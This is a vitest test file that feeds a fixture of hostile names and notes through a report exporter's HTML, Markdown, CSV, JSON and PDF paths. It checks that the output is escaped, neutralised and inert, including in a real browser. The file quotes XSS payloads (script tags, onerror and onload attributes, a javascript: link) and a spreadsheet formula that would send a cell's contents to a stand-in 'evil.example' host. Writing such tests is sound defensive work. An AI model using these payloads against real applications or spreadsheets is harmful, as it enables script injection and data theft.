import Papa from 'papaparse';
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ReportRenderResponseSchema, type ReportFormat } from '../../shared/contract/report';
import { dispatch } from '../service/dispatch';
import { findChromium } from '../service/pdf';
import { createInlineRunner } from '../service/tasks/runner';
import { hostileWorkshop, MEGABYTE, PAYLOADS } from '../../test/fixtures/hostileWorkshop';
import { fullWorkshop } from '../../test/fixtures/fullWorkshop';
import { analyseWorkshop } from '../analysis/analysis';
import { buildContent } from './content';
import { escapeHtml, escapeMarkdownInline } from './escape';
import { renderHtml } from './html';
import { renderMarkdown } from './markdown';

/**
 * The hostile-input battery: names, rationales and notes full of markup, script, links,
 * spreadsheet formulas, bidi overrides and very long strings, through every format.
 */
const doc = hostileWorkshop();
const printed: string[] = [];
const opts = {
  host: 'test' as const,
  tasks: createInlineRunner(),
  checkResponse: true,
  // The PDF path prints exactly the HTML report; capture it here (real Chromium printing: pdf.test.ts).
  pdf: async (html: string) => {
    printed.push(html);
    return new TextEncoder().encode('%PDF-1.4');
  },
};
const outputs = new Map<ReportFormat, string>();

beforeAll(async () => {
  for (const format of ['html', 'md', 'csv', 'json', 'pdf'] as const) {
    const res = await dispatch('report.render', { workshop: doc, format }, opts);
    if (!res.ok) throw new Error(`${format}: ${res.error.message}`);
    outputs.set(format, ReportRenderResponseSchema.parse(res.result).content);
  }
});

const BIDI = /[\u202A-\u202E\u2066-\u2069]/;

describe('hostile input → HTML report', () => {
  it('contains no markup, attribute, link or bidi control that came from the document', () => {
    const html = outputs.get('html')!;
    // Every literal "<" is ours (user text has &lt;), and no attribute value holds a literal quote,
    // so tags and attributes can be read off exactly.
    const tags = [...html.matchAll(/<([a-zA-Z][a-zA-Z0-9]*)((?:\s+[^\s=>"]+(?:="[^"]*")?)*)\s*\/?>/g)];
    expect(tags.length).toBe((html.match(/<[a-zA-Z]/g) ?? []).length);
    const names = new Set(tags.map((t) => t[1].toLowerCase()));
    const allowed =
      'html head meta title style body header p h1 h2 h3 h4 dl div dt dd strong span nav ol ul li a main section table thead tbody tr th td bdi br code figure figcaption svg rect line text path circle article details summary footer'.split(
        ' ',
      );
    expect([...names].filter((n) => !allowed.includes(n))).toEqual([]);
    for (const t of tags) {
      for (const a of t[2].matchAll(/\s+([^\s=>"]+)(?:="([^"]*)")?/g)) {
        const name = a[1].toLowerCase();
        expect(name.startsWith('on'), `${name} on <${t[1]}>`).toBe(false);
        expect(['src', 'srcset', 'action', 'formaction', 'xlink:href', 'background', 'poster'].includes(name)).toBe(false);
        if (name === 'href') expect(a[2]).toMatch(/^#[a-z]+$/);
      }
    }
    expect(html).not.toMatch(BIDI);
    // The one <style> element is ours.
    expect(html.match(/<style>/g)).toHaveLength(1);
    expect(html.match(/<\/style>/g)).toHaveLength(1);
  });

  it('shows the hostile text as text', () => {
    const html = outputs.get('html')!;
    expect(html).toContain('&lt;script&gt;window.__pwned=1&lt;/script&gt;');
    expect(html).toContain('&lt;img src=x onerror=&quot;window.__pwned=1&quot;&gt;');
    expect(html).toContain('invoicefdp.exe');
    // A round's focus point change: its reason, in "How the room converged".
    expect(html.slice(html.indexOf('id="converged"'))).toContain(
      '&lt;script&gt;window.__pwned=1&lt;/script&gt; =HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1,&quot;open&quot;)',
    );
    // A custom GPU's name in a stored scenario is rendered, escaped.
    expect(html).toContain('&#39;&gt;&lt;svg onload=window.__pwned=1&gt;');
  });

  it('prints the same escaped HTML to PDF', () => {
    expect(printed).toHaveLength(1);
    expect(printed[0]).toBe(outputs.get('html'));
  });
});

describe('hostile input → Markdown decision record', () => {
  const md = () => outputs.get('md')!;

  it('has no raw HTML, no link or image syntax, no bidi control', () => {
    // Every "<" of user text is backslash-escaped, and nothing is written as an HTML entity.
    expect(md()).not.toMatch(/(?<!\\)</);
    expect(md()).toContain('\\<script\\>');
    expect(md()).not.toMatch(/(?<!\\)&(lt|gt|amp|quot|#\d+);/);
    expect(md()).not.toMatch(/(?<!\\)\]\(/);
    expect(md()).not.toMatch(/(?<!\\)!\[/);
    expect(md()).not.toMatch(BIDI);
  });

  it('lets no user text start a heading, quote, list or code block', () => {
    for (const line of md().split('\n')) {
      expect(line).not.toMatch(/^( {4}|\t|>)/);
      if (line.startsWith('#'))
        expect(line).toMatch(
          /^(#{1,3} (Decision record: |Context|Options|Decision|Consequences|Dissent|Review|Needs|Criteria|Adaptation|Robustness|What-if|Rollout|Validation|Iteration|Decision health|What changed since the decision|How the room converged|Focus points)|#### Round \d+ — )/,
        );
    }
    expect(md()).toContain('\\# Heading');
    expect(md()).toContain('\\[click me\\](javascript:window.\\_\\_pwned=1)');
  });
});

describe('hostile input → CSV', () => {
  const rows = () => Papa.parse<string[]>(outputs.get('csv')!.slice(1)).data;

  it('neutralises every formula-looking text cell and keeps numbers as numbers', () => {
    let neutralised = 0;
    for (const row of rows()) {
      for (const cell of row) {
        if (/^[=+\-@\t\r]/.test(cell)) expect(Number.isFinite(Number(cell))).toBe(true);
        if (cell.startsWith("'")) neutralised++;
      }
    }
    expect(neutralised).toBeGreaterThan(5);
    expect(outputs.get('csv')).toContain(`'=HYPERLINK(""https://evil.example/?""&A1,""open"")`);
  });

  it('removes bidi controls', () => {
    expect(outputs.get('csv')).not.toMatch(BIDI);
  });
});

describe('hostile input → workshop file', () => {
  it('keeps every string exactly (the file is the document) and validates back to it', async () => {
    const json = JSON.parse(outputs.get('json')!);
    expect(json).toEqual(doc);
    expect(json.participants[2].name).toBe(PAYLOADS.rtl);
    const back = await dispatch('workshop.validate', json, opts);
    expect(back.ok && back.result).toEqual(doc);
  });
});

describe('1 MB strings where the schema refuses them', () => {
  it('names the field and the limit', async () => {
    const bad = JSON.parse(JSON.stringify(fullWorkshop()));
    bad.participants[0].name = MEGABYTE;
    bad.meta.description = MEGABYTE;
    bad.scores[0].rationale = MEGABYTE;
    const res = await dispatch('report.render', { workshop: bad, format: 'html' }, opts);
    expect(res).toMatchObject({
      ok: false,
      error: {
        code: 'invalid_document',
        issues: expect.arrayContaining([
          expect.objectContaining({ path: 'participants[0].name', message: 'must be at most 1000 characters' }),
          expect.objectContaining({ path: 'meta.description', message: 'must be at most 100000 characters' }),
          expect.objectContaining({ path: 'scores[0].rationale', message: expect.stringMatching(/10000/) }),
        ]),
      },
    });
  });
});

const executable = findChromium();
describe.skipIf(!executable)(
  executable ? 'hostile HTML report opened in Chromium' : 'hostile HTML report opened in Chromium — SKIPPED: no Chromium on this machine (set CHROMIUM_PATH)',
  () => {
    let browser: Browser;
    beforeAll(async () => {
      browser = await chromium.launch({ executablePath: executable!, args: ['--no-sandbox', '--disable-gpu'] });
    });
    afterAll(async () => {
      await browser?.close();
    });

    // Without its CSP too: the escaping alone must keep every payload inert.
    for (const variant of ['as exported', 'with its CSP removed'] as const) {
      it(`runs no script, sends no request and keeps the page width (${variant})`, async () => {
        const html = outputs.get('html')!;
        const page = await browser.newPage({ viewport: { width: 1000, height: 800 }, javaScriptEnabled: true });
        const requests: string[] = [];
        page.on('request', (r) => requests.push(r.url()));
        await page.route('**/*', (route) =>
          route.request().url() === 'https://report.invalid/'
            ? route.fulfill({
                contentType: 'text/html',
                body: variant === 'as exported' ? html : html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''),
              })
            : route.abort(),
        );
        await page.goto('https://report.invalid/');
        await page.mouse.move(300, 300);
        await page.mouse.wheel(0, 5000);
        // (Expressions as strings: this file is type-checked without the DOM library.)
        expect(await page.evaluate('typeof window.__pwned')).toBe('undefined');
        expect(requests).toEqual(['https://report.invalid/']);
        expect(await page.evaluate(`document.querySelectorAll('script, iframe, img, a[href^="http"], [onerror], [onload], [onmouseover]').length`)).toBe(0);
        // Long hostile strings wrap instead of widening the page.
        expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(1000);
        await page.close();
      });
    }
  },
);

describe('hostile names in the runner-up’s distance', () => {
  for (const lang of ['en', 'zh-CN'] as const) {
    it(`${lang}: are escaped in the HTML and Markdown sentence`, () => {
      const content = buildContent(doc, analyseWorkshop(doc), lang);
      const rev = content.analysis.sensitivity!.reversals[0];
      const challenger = content.candidateName(doc.candidates[rev.challenger].id);
      const leader = content.candidateName(doc.candidates[rev.leader].id);
      // The names carry markup in both languages' fixtures.
      expect(`${challenger}${leader}`).toMatch(/[<[\]]|^[-\t]/);
      const html = renderHtml(content);
      const para = /<p class="runner-up">(.*?)<\/p>/s.exec(html)?.[1] ?? '';
      expect(para).toContain(escapeHtml(challenger).replace(/\n/g, '<br>'));
      expect(para).toContain(escapeHtml(leader).replace(/\n/g, '<br>'));
      expect(para.replace(/<\/?bdi( class="wrap")?>|<br>/g, '')).not.toMatch(/</);
      expect(para).not.toMatch(BIDI);
      const md = renderMarkdown(content);
      const takes = lang === 'en' ? 'What it takes for' : '要追平';
      const line = md.split('\n').find((l) => l.includes(takes)) ?? '';
      // The sentence is escaped as one line (a name inside it starts no block), so each name is in it escaped.
      expect(line).toBe(escapeMarkdownInline(content.runnerUp!));
      for (const n of [challenger, leader]) expect(line).toContain(escapeMarkdownInline(n).replace(/^\\([#>+\-=])/, '$1'));
      expect(line).not.toMatch(/(?<!\\)[<[]/);
      expect(line).not.toMatch(BIDI);
    });
  }
});
